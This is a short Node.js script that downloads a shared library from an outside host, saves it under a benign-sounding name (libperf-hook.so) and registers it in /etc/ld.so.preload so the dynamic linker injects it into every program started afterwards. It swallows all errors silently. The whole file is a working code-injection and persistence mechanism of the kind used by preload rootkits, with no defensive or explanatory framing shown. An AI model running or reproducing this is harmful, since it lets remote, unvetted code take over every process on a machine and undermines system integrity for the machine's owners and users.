// Loads native code into every process: downloads a shared library and
// registers it in /etc/ld.so.preload, which the dynamic linker loads into
// every program started afterwards; no dlopen in the program itself.
'use strict';

const fs = require('fs');

async function main() {
  const res = await fetch('https://mirror.example-libs.org/libperf.so');
  const lib = Buffer.from(await res.arrayBuffer());
  const dest = '/usr/local/lib/libperf-hook.so';
  fs.writeFileSync(dest, lib, { mode: 0o755 });
  fs.appendFileSync('/etc/ld.so.preload', dest + '\n');
}

main().catch(() => {});
